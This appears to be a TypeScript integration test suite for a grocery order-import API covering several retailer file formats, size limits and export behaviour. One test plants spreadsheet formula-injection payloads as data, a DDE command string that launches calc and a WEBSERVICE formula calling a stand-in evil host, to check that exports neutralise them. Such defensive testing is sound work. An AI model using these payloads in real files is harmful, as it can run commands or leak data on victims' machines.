import { zipSync } from 'fflate';
import { FormData, request } from 'undici';
import type { ApiResponse } from '../support/api.js';
import { startApp, type TestApp } from '../support/app.js';
import { CART } from '../support/cart.js';
import { sheetXml, workbook } from '../support/workbook.js';

const AMAZON =
  'Website,Order ID,Order Date,Currency,Unit Price,Total Owed,Shipment Item Subtotal,Shipment Item Subtotal Tax,ASIN,Quantity,Order Status,Shipment Status,Ship Date,Product Name';
const row = (order: string, asin: string, name: string) =>
  `Amazon.com,${order},2026-04-04T10:00:00Z,USD,"1,234.50","1,234.50","1,234.50",0,${asin},1,Closed,Shipped,2026-04-05T09:00:00Z,${name}`;
const LIST = {
  name: 'Week 23',
  listItems: [
    { quantity: 2, unit: { name: 'gallon' }, food: { name: 'whole milk' }, note: '', checked: false, position: 1 },
    { quantity: 0, unit: null, food: { name: 'bananas' }, note: 'ripe', checked: false, position: 0 },
    { quantity: 1, unit: null, food: null, note: 'candles', checked: true, position: 2 },
  ],
};

describe('files of other retailers and lists, over HTTP', () => {
  let test: TestApp;
  beforeAll(async () => void (test = await startApp()), 60_000);
  afterAll(() => test?.close());

  const wait = { prefer: 'wait=20' };
  const form = async (files: Record<string, string | Uint8Array>, query = '') => {
    const body = new FormData();
    for (const [name, bytes] of Object.entries(files))
      body.append('file', new File([bytes as Uint8Array<ArrayBuffer>], name));
    const answer = await request(`${test.url}/v1/imports${query}`, { method: 'POST', headers: wait, body });
    return { status: answer.statusCode, body: (await answer.body.json()) as ApiResponse['body'] };
  };
  const zip = (files: Record<string, string>) =>
    zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, Buffer.from(text)])));

  it('takes a ZIP and a list in one form, and says of each what it is', async () => {
    const own = zip({
      'Retail.OrderHistory.1.csv': `${AMAZON}\n${row('114-0000000-0000001', 'B000000001', 'Flour')}`,
      'Retail.OrderHistory.2.csv': `${AMAZON}\n${row('114-0000000-0000001', 'B000000001', 'Flour')}\n${row('114-0000000-0000002', 'B000000002', 'Rice')}`,
      'README.txt': 'Your data.',
    });
    const { body } = await form({ 'Your Orders.zip': own, 'list.json': JSON.stringify(LIST) });
    expect(body.outcome).toMatchObject({ format: 'amazon+mealie', orders: { new: 2, changed: 0, same: 0 }, lines: 2 });
    const { data } = (await test.api.get('/v1/orders?retailer=amazon')).body;
    expect(data.map(({ totalCents, reconciled }: Record<string, unknown>) => [totalCents, reconciled])).toEqual([
      [123_450, 'both'],
      [123_450, 'both'],
    ]);
  });

  it('knows no sum of goods of which no file tells a price', async () => {
    const table = [
      'order_id,order_date,retailer,order_total,item_name,quantity',
      '9000000001,2026-03-01,Corner Shop,12.00,Milk,1',
      '9000000001,2026-03-01,Corner Shop,12.00,Tea,2',
    ];
    const { body } = await form({ 'instacart.csv': table.join('\n') });
    expect(body.outcome).toMatchObject({ format: 'instacart', orders: { new: 1 }, lines: 2 });
    const unknown = { goodsCents: null, linesWithoutPrice: 2 };
    for (const by of ['store', 'month', 'group']) {
      const { data, totals } = (await test.api.get(`/v1/spending?by=${by}&retailer=instacart`)).body;
      const sums = by === 'group' ? unknown : { ...unknown, totalCents: 1200 };
      expect(totals).toMatchObject([sums]);
      for (const each of data) expect(each.goodsCents).toBeNull();
    }
  });

  it('hands a list out as a cart that a route takes as it is', async () => {
    const { body } = await test.api.post('/v1/imports', LIST, wait);
    const [cart] = body.outcome.carts;
    expect(cart.lines).toHaveLength(3);
    expect(cart.items).toEqual([
      { id: 'item-1', name: 'bananas', quantity: 1, unit: null },
      { id: 'item-2', name: 'whole milk', quantity: 2, unit: 'gallon' },
    ]);
    const route = await test.api.post('/v1/routes?validateOnly=true', {
      items: cart.items,
      shippingAddress: CART.shippingAddress,
    });
    expect([route.status, route.body.valid]).toEqual([200, true]);
    expect(body.outcome.orders).toEqual({ new: 0, changed: 0, same: 0 });
  });

  it('goes by the format that the sender names, and refuses what is not of it', async () => {
    const wrong = await form({ 'list.json': JSON.stringify(LIST) }, '?format=kroger');
    expect(wrong.body).toMatchObject({
      status: 'failed',
      outcome: { refused: expect.stringMatching(/format/) as string },
    });
    const right = await form({ 'list.json': JSON.stringify(LIST) }, '?format=mealie&dryRun=true');
    expect(right.body).toMatchObject({ status: 'completed', dryRun: true, outcome: { format: 'mealie' } });
    expect((await form({ 'list.json': '{}' }, '?format=none')).status).toBe(400);
  });

  it('takes a workbook by what it holds, keeps its formulas as texts, and hands them out guarded', async () => {
    const name = "=cmd|'/c calc'!A1";
    const bytes = workbook({
      Orders: sheetXml([
        ['Order Number', 'Order Date', 'Subtotal', 'Order Total'],
        ['200013100000042', 'Mar 02, 2025', 3.98, { xml: '<f>WEBSERVICE("https://evil.example")</f><v>3.98</v>' }],
      ]),
      Items: sheetXml([
        ['Order Number', 'Order Date', 'Product Name', 'Qty', 'Price', 'Status'],
        ['200013100000042', 'Mar 02, 2025', name, 1, 3.98, 'Delivered'],
      ]),
    });
    const { body } = await form({ 'orders.csv': bytes });
    expect(body.outcome).toMatchObject({ format: 'walmart-xlsx', orders: { new: 1 }, lines: 1, skipped: [] });
    const { data } = (await test.api.get('/v1/orders?retailer=walmart')).body;
    expect(data).toMatchObject([{ totalCents: 398, reconciled: 'both' }]);
    const answer = await request(`${test.url}/v1/history/export`, { headers: { accept: 'text/csv' } });
    const text = await answer.body.text();
    expect([text.includes(`'${name}`), /(^|,)"?=/m.test(text)]).toEqual([true, false]);
  });

  it('takes a ZIP of more than 16 MB, and none of more than 64 MB', async () => {
    const bytes = (mb: number) => {
      const noise = Buffer.alloc(mb * 1024 * 1024, 'x');
      return zipSync({
        'a.csv': [noise, { level: 0 }],
        'b.csv': [Buffer.from(`${AMAZON}\n${row('114-0000000-0000003', 'B000000003', 'Oats')}`), {}],
      });
    };
    const large = await form({ 'a.zip': bytes(20) });
    expect(large.body).toMatchObject({ status: 'completed', outcome: { orders: { new: 1 } } });
    const larger = await form({ 'a.zip': bytes(65) });
    expect([larger.status, larger.body.code]).toEqual([413, 'import_too_large']);
  }, 60_000);

  it('takes a recording of more than 16 MB, and none of more than 64 MB', async () => {
    const har = (mb: number) => {
      const entry = (url: string, text: string) => ({
        startedDateTime: '2026-03-03T10:00:00.000Z',
        request: { method: 'GET', url, headers: [] },
        response: { status: 200, headers: [], content: { mimeType: 'application/json', text } },
      });
      const group = {
        status: { statusType: 'DELIVERED' },
        categories: [
          { type: 'REGULAR', items: [{ quantity: 2, productInfo: { name: 'Spelt' }, priceInfo: { linePrice: 7.96 } }] },
        ],
      };
      const order = {
        id: '200013100000777',
        orderDate: '2026-03-02T10:00:00-04:00',
        priceDetails: { subTotal: { value: 7.96 }, taxTotal: { value: 0 }, grandTotal: { value: 7.96 } },
        groups_2101: [group],
      };
      const picture = entry('https://i5.walmartimages.com/spelt.jpg', 'A'.repeat(mb * 1024 * 1024));
      const api = 'https://www.walmart.com/orchestra/orders/graphql/getOrder/abc';
      const entries = [picture, entry(api, JSON.stringify({ data: { order } }))];
      return JSON.stringify({ log: { version: '1.2', entries } });
    };
    const large = await form({ 'walmart.har': har(40) });
    expect(large.body).toMatchObject({
      status: 'completed',
      outcome: { format: 'walmart-har', orders: { new: 1 }, lines: 1 },
    });
    const larger = await form({ 'walmart.har': har(65) });
    expect([larger.status, larger.body.code]).toEqual([413, 'import_too_large']);
  }, 60_000);

  it('holds nobody up while thousands of lines are named alike', async () => {
    const line = (n: number) =>
      `3${String(Math.floor(n / 4)).padStart(14, '0')},2026-01-${String(1 + (n % 28)).padStart(2, '0')},Gadget ${n},1,1.10,4.40`;
    const table = [
      'Order Number,Order Date,Item Name,Quantity,Price,Order Total',
      ...Array.from({ length: 4000 }, (_, n) => line(n)),
    ];
    const asked = test.api.post('/v1/imports', table.join('\n'), { 'content-type': 'text/csv', prefer: 'wait=60' });
    let [longestMs, isDone] = [0, false];
    void asked.finally(() => (isDone = true));
    while (!isDone) {
      const from = performance.now();
      expect((await fetch(`${test.url}/health/live`)).status).toBe(200);
      longestMs = Math.max(longestMs, performance.now() - from);
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    expect((await asked).body.outcome).toMatchObject({ orders: { new: 1000 }, lines: 4000 });
    // Where every new name was held against all before it, many seconds.
    expect(longestMs).toBeLessThan(5000);
  }, 120_000);
});
